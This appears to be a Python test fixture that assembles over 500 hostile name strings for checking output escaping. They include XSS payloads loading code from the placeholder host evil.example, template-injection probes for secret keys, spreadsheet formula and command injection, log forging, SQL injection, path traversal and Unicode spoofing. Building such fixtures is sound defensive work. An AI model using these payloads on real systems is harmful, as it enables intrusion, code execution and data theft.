"""Five hundred and more texts that somebody could write into a name to harm whoever reads it.

PAYLOADS is for every page, fragment, log and export. `hides` says whether a text holds characters
that must not come through as they are; NEVER_COMPUTED is what a template that runs one would show.
"""

import itertools
import unicodedata

# 7007 * 7007: so long that no id and no token holds it by chance.
NEVER_COMPUTED = "49098049"
_PRODUCT = "7007*7007"
_LONGEST_PACKED = 150

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><button>Go",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>Go</button>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href=data:text/html,x>here</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=/logout/ hx-trigger=load>",
    "<div data-hx-post=/logout/ data-hx-trigger=load>",
    "<div hx-on::load=alert(1)>",
    "<div data-poll data-copy=x>",
    "<template is=x shadowrootmode=open>",
    "<plaintext>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
]
_BREAKS = ["", '">', "'>", "</title>", "</textarea></select></pre>", "-->", "x' ", '\\">']
_ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '" style="position:fixed;inset:0" x="',
    '" hx-get="/logout/" hx-trigger="load" x="',
    "' hx-on:click='alert(1)",
    '" href="javascript:alert(1)',
    '" formaction="//evil.example',
    '" data-submit-on-change data-poll x="',
    "` onmouseover=`alert(1)",
    "x\tonmouseover=alert(1)",
    "x/onmouseover=alert(1)/",
    "x\nonmouseover=alert(1)\n",
    "x\x0conmouseover=alert(1)",
]
_SPELLINGS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "\\\\evil.example\\x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&amp;lt;script&amp;gt;",
    "&quot; onmouseover=&quot;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=`x`onerror=alert(1)>",
    "<x onclick=alert(1)>here</x>",
    "<svg/onload=alert(1)//",
]
_TEMPLATES = [
    form.format(_PRODUCT)
    for form in (
        *("{{{{{}}}}}", "{{{{ {} }}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "[[{}]]", "{{% {} %}}"),
        *(
            "{{{{'a'|add:{}}}}}",
            "@({})",
            "*{{{}}}",
            "~{{{}}}",
            "{{{{constructor.constructor('{}')}}}}",
        ),
    )
] + [
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}",
    "{% debug %}",
    "{% csrf_token %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{# a comment #}",
    "{% comment %}",
    "{% verbatim %}",
    "{0}",
    "{name}",
    "{reported}",
    "{alias.__class__.__init__.__globals__}",
    "{0.__class__.__mro__}",
    "%s%s%s%n",
    "%(alias)s %(name)s",
    "%d%d%d",
    "{",
    "}",
    "{}{}{}",
]
_COMMANDS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "1+1", "SUM(1;2)", "A1"]
_FORMULAS = [
    f"{start}{command}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", " =", "\uff1d", '"=', ";=")
    for command in _COMMANDS
]
_LINE_ENDS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
_FORGED = [
    "2026-11-23 16:50:12,000 INFO images.access alice signed in",
    '{"event": "signed in", "actor": "alice", "level": "info"}',
    "X-Injected: 1",
]
_LOGS = [f"web01{end}{line}" for end in _LINE_ENDS for line in _FORGED] + [
    "web01\x1b[2J\x1b[1;1Hcleared",
    "web01\x1b]0;a title\x07",
    "web01\x08\x08\x08\x08\x08evil",
    "web01\x9b2J",
]
# Each character that hides: controls, directions, zero width, tags, private use, separators.
_HIDING_RANGES = [
    *(range(0x00, 0x20), range(0x7F, 0xA0), [0xAD, 0x61C, 0x180E]),
    *(range(0x200B, 0x2010), range(0x2028, 0x202F), range(0x2060, 0x2070)),
    *([0xFEFF], range(0xFFF9, 0xFFFC), [0xE0001, 0xE0041, 0xE007F]),
    *([0xE000, 0xF8FF, 0xF0000, 0x10FFFD], [0x1D173, 0x1BCA0]),
]
_HIDING = [f"invoice{chr(code)}gpj.exe" for code in itertools.chain(*_HIDING_RANGES)]
_DIRECTIONS = [
    "\u202e\u2066txt.exe\u2069\u202c",
    "\u2067safe\u2069 <b>",
    "‮" * 50,
    "a\u202eb\u202ec\u202e",
    "\u200f\u200f\u200f(web01)",
    "א<script>alert(1)</script>",
]
_HALVES = ["\ud800", "\udfff", "a\ud83d", "\ude00b", "\udc00\ud800", "\ud800\u202e<b>"]
_LONG = [
    "A" * 255,
    "A" * 256,
    "A" * 4_001,
    "A" * 40_000,
    "가" * 4_001,
    "<" * 4_001,
    "&" * 4_001,
    '"' * 4_001,
    "<b>" * 1_500,
    "\u202e" * 500,
    "e" + "\u0301" * 500,
    "👩‍👩‍👧‍👦" * 40,
    " " * 300,
    "\t" * 300,
    "a " * 2_000,
]
_OTHERS = [
    "'; DROP TABLE images_user; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "$(reboot)",
    "`reboot`",
    "; reboot #",
    "| reboot",
    "null",
    "undefined",
    "NaN",
    "None",
    "true",
    "",
    " ",
    ".",
    "\\",
    "\\\\",
    "'",
    '"',
    "`",
    "<",
    ">",
    "&",
    "&nbsp;",
    "\\n\\r\\t",
    "\\u202e",
    "‹U+202E›",
    "İıſK",
    "ﬃ",
    "Ⅷ",
    "аdmin",  # a Cyrillic a
    "x" * 64 + "\x00" + "y" * 64,
]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *(f"{end}{script}" for script in _SCRIPTS for end in _BREAKS),
            *(_ATTRIBUTES + _SPELLINGS + _TEMPLATES + _FORMULAS + _LOGS),
            *(_HIDING + _DIRECTIONS + _HALVES + _LONG + _OTHERS),
        ]
    )
)
assert len(PAYLOADS) >= 500, len(PAYLOADS)


# What runs, loads or leads away in a browser that takes it for markup.
ACTIVE = [*(f'">{script}' for script in _SCRIPTS), *_SCRIPTS, *_ATTRIBUTES]


def packed(longest: int) -> list[str]:
    """Return all but the very long in fewer texts, so that fewer pages show them all."""
    texts = [""]
    for each in PAYLOADS:
        if len(each) > _LONGEST_PACKED:
            continue
        if len(texts[-1]) + len(each) >= longest:
            texts.append("")
        texts[-1] += f"{each} "
    return texts


def hides(letter: str) -> bool:
    """Whether the character hides or turns round what stands beside it, or is none at all."""
    return unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
